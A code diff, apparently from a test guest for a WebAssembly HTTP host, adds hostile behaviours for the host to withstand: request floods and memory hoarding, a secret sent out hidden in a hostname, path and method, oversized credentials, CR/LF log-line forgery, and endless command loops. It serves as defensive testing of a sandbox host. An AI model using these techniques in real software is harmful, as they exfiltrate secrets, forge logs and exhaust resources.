@@ -3,7 +3,8 @@
 use std::hint::black_box;
 use std::sync::Mutex;
 
-use waki::bindings::wasi::http::types::Fields;
+use waki::bindings::wasi::http::outgoing_handler::handle;
+use waki::bindings::wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
 use waki::{Client, Response};
 use wasi::clocks::monotonic_clock;
 
@@ -35,6 +36,14 @@ pub const BEHAVIORS: &[(&str, Behavior)] = &[
     ("get", get),
     ("get-with-token", get_with_token),
     ("follow-redirect", follow_redirect),
+    ("flood-requests", flood_requests),
+    ("leave-answers", leave_answers),
+    ("hoard-requests", hoard_requests),
+    ("send-secret", send_secret),
+    ("slow-secret", slow_secret),
+    ("forge-log", forge_log),
+    ("circle", circle),
+    ("endless", endless),
 ];
 
 /// Does what the command says.
@@ -195,6 +204,128 @@ fn follow_redirect(url: &str) -> String {
         Some(location) => say(&send_with_token(&location)),
         None => format!("no redirect: {}", say(&answer)),
     }
+}
+
+/// Sends so many requests with bodies of so many KiB to an authority, and waits for no answer: `100 64 127.0.0.1:8080`.
+fn flood_requests(argument: &str) -> String {
+    let [requests, size, authority] = words(argument);
+    let size = number(size) * 1024;
+    for _ in 0..number(requests) {
+        let request = OutgoingRequest::new(Fields::new());
+        request.set_method(&Method::Post).expect("it is a method");
+        request
+            .set_scheme(Some(&Scheme::Http))
+            .expect("it is a scheme");
+        request
+            .set_authority(Some(authority))
+            .expect("the test gives an authority");
+        request
+            .set_path_with_query(Some("/"))
+            .expect("it is a path");
+        let body = request.body().expect("nobody took it before");
+        let stream = body.write().expect("nobody took it before");
+        let answer = handle(request, None).expect("it can be sent");
+        std::mem::forget(answer);
+        for _ in 0..size / PIECE {
+            // Where the host takes no more, it ends the call.
+            let _ = stream.blocking_write_and_flush(&[b'a'; PIECE]);
+        }
+        drop(stream);
+        let _ = OutgoingBody::finish(body, None);
+    }
+    "the host took them all".to_string()
+}
+
+/// The most that a stream takes at a time.
+const PIECE: usize = 4096;
+
+/// Makes so many requests with a host and a method of so many KiB each, and sends none: `100 16000`.
+fn hoard_requests(argument: &str) -> String {
+    let [requests, size] = words(argument);
+    let long = "a".repeat(number(size) * 1024);
+    for _ in 0..number(requests) {
+        let request = OutgoingRequest::new(Fields::new());
+        let _ = request.set_authority(Some(&long));
+        let _ = request.set_method(&Method::Other(long.clone()));
+        std::mem::forget(request);
+    }
+    "the host took them all".to_string()
+}
+
+/// Sends the secret where only the host's own log would show it: as a host, as a path and as a method.
+fn send_secret(authority: &str) -> String {
+    let secret = secret();
+    for (method, authority, path) in [
+        ("GET", format!("{secret}.example"), "/".to_string()),
+        ("GET", authority.to_string(), format!("/{secret}")),
+        (secret.as_str(), authority.to_string(), "/".to_string()),
+    ] {
+        let request = OutgoingRequest::new(Fields::new());
+        let _ = request.set_scheme(Some(&Scheme::Http));
+        let _ = request.set_authority(Some(&authority));
+        let _ = request.set_path_with_query(Some(&path));
+        let _ = request.set_method(&Method::Other(method.to_string()));
+        if let Ok(answer) = handle(request, None) {
+            answer.subscribe().block();
+        }
+    }
+    "it is out".to_string()
+}
+
+/// Takes credentials that are long to look for, and then logs and answers with what looks like them all along.
+fn slow_secret(authority: &str) -> String {
+    let credentials = format!("Bearer {}b", "a".repeat(100 * 1024));
+    let fields = [("authorization".to_string(), credentials.into_bytes())];
+    let fields = Fields::from_list(&fields).expect("the host takes as much");
+    let request = OutgoingRequest::new(fields);
+    let _ = request.set_scheme(Some(&Scheme::Http));
+    let _ = request.set_authority(Some(authority));
+    let _ = request.set_path_with_query(Some("/"));
+    if let Ok(answer) = handle(request, None) {
+        answer.subscribe().block();
+    }
+    logging::log(Level::Info, &"a".repeat(2 << 20), &[]);
+    "it is logged".to_string()
+}
+
+/// Sends so many requests with the client secret as their token to a URL, waits for the head of each answer, and leaves the rest
+/// lying: `3 http://127.0.0.1:8080/`.
+fn leave_answers(argument: &str) -> String {
+    let (requests, url) = argument.split_once(' ').expect("the test gives both");
+    for _ in 0..number(requests) {
+        match send_with_token(url) {
+            Ok(answer) => std::mem::forget(answer),
+            Err(error) => return format!("error {error}"),
+        }
+    }
+    "they lie there".to_string()
+}
+
+/// Logs what looks like a line of the host's own.
+fn forge_log(line: &str) -> String {
+    let field = Field {
+        name: "name".to_string(),
+        value: format!("value\n{line}"),
+    };
+    logging::log(Level::Warn, &format!("message\r\n{line}"), &[field]);
+    "it is out".to_string()
+}
+
+/// Goes round in a circle, where its answer is the next command, as the cursor of a listing is.
+fn circle(place: &str) -> String {
+    let next = if place == "here" { "there" } else { "here" };
+    format!("circle {next}")
+}
+
+/// Goes on for ever, likewise.
+fn endless(step: &str) -> String {
+    format!("endless {}", number(step) + 1)
+}
+
+/// So many words, with the rest in the last.
+fn words<const N: usize>(argument: &str) -> [&str; N] {
+    let words: Vec<_> = argument.splitn(N, ' ').collect();
+    words.try_into().expect("the test gives as many")
 }
 
 const MIB: usize = 1 << 20;
